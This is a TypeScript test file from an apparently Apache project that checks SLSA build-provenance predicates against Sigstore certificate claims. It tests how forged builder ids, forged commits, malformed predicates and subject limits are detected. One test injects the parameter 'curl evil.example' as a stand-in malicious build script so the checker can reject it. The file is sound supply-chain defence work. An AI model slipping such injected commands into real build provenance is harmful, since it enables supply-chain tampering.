// Licensed to the Apache Software Foundation (ASF) under one
// or more contributor license agreements.  See the NOTICE file
// distributed with this work for additional information
// regarding copyright ownership.  The ASF licenses this file
// to you under the Apache License, Version 2.0 (the
// "License"); you may not use this file except in compliance
// with the License.  You may obtain a copy of the License at
//
//   http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing,
// software distributed under the License is distributed on an
// "AS IS" BASIS, WITHOUT WARRANTIES OR CONDITIONS OF ANY
// KIND, either express or implied.  See the License for the
// specific language governing permissions and limitations
// under the License.

import { describe, expect, it } from 'vitest'
import type { CertificateClaims } from './claims.ts'
import { provenanceMismatches } from './provenance-mismatches.ts'
import { slsaProvenance } from './slsa-provenance.ts'
import { statement } from './statement.ts'

const claims: CertificateClaims = {
  subjectAlternativeName: 'https://github.com/apache/suite/.github/workflows/sign.yml@refs/tags/v1',
  issuer: 'https://token.actions.githubusercontent.com',
  buildSignerUri: 'https://github.com/apache/suite/.github/workflows/sign.yml@refs/tags/v1',
  runnerEnvironment: 'github-hosted',
  sourceRepositoryUri: 'https://github.com/apache/demo',
  sourceRepositoryDigest: 'a'.repeat(40),
  sourceRepositoryRef: 'refs/tags/v1.0.0',
  sourceRepositoryIdentifier: '123',
  sourceRepositoryOwnerIdentifier: '47359',
  buildConfigUri: 'https://github.com/apache/demo/.github/workflows/a@b.yml@refs/tags/v1.0.0',
  buildTrigger: 'push',
  runInvocationUri: 'https://github.com/apache/demo/actions/runs/42/attempts/1',
}

describe('slsaProvenance', () => {
  it('says what the certificate says, also for a workflow path with an "@"', () => {
    const predicate = slsaProvenance(claims)
    expect(predicate).toMatchObject({
      buildDefinition: {
        externalParameters: { workflow: { path: '.github/workflows/a@b.yml', ref: 'refs/tags/v1.0.0' } },
      },
      runDetails: { builder: { id: claims.subjectAlternativeName } },
    })
    expect(provenanceMismatches(predicate, claims)).toEqual([])
  })

  it('shows a forged builder and a forged commit', () => {
    const forged = JSON.parse(JSON.stringify(slsaProvenance(claims)))
    forged.runDetails.builder.id = 'https://github.com/evil/x/.github/workflows/sign.yml@refs/tags/v1'
    forged.buildDefinition.resolvedDependencies[0].digest.gitCommit = 'f'.repeat(40)
    expect(provenanceMismatches(forged, claims)).toEqual([
      `predicate.buildDefinition.resolvedDependencies.0.digest.gitCommit: predicate "${'f'.repeat(40)}", certificate "${'a'.repeat(40)}"`,
      `predicate.runDetails.builder.id: predicate "${forged.runDetails.builder.id}", certificate "${claims.buildSignerUri}"`,
    ])
  })

  it('refuses parameters that the build type does not have, and takes the inputs of a run', () => {
    const predicate = slsaProvenance(claims)
    const withParameters = (more: object) => {
      const copy = JSON.parse(JSON.stringify(predicate))
      Object.assign(copy.buildDefinition.externalParameters, more)
      return provenanceMismatches(copy, claims)
    }
    expect(withParameters({ inputs: { version: '1.0.0' } })).toEqual([])
    expect(withParameters({ script: 'curl evil.example' })).toEqual([
      'predicate.buildDefinition.externalParameters.script: not a parameter of this build type',
    ])
  })

  it.each([undefined, null, 'text', [], {}])(
    'calls a predicate that is %j different, without throwing',
    (predicate) => {
      expect(provenanceMismatches(predicate, claims).length).toBeGreaterThan(5)
    },
  )

  it('refuses to invent a claim that the certificate does not make', () => {
    const { sourceRepositoryDigest: _, ...without } = claims
    expect(() => slsaProvenance(without)).toThrow('does not state sourceRepositoryDigest')
  })
})

describe('statement', () => {
  const subject = { name: 'a', digest: { sha256: '0', sha512: '1' } }
  it('refuses none and more subjects than the attestations API takes', () => {
    expect(() => statement('t', [], {})).toThrow('says nothing')
    expect(() => statement('t', Array(1025).fill(subject), {})).toThrow('at most 1024')
    expect(statement('t', Array(1024).fill(subject), {}).subject).toHaveLength(1024)
  })
})
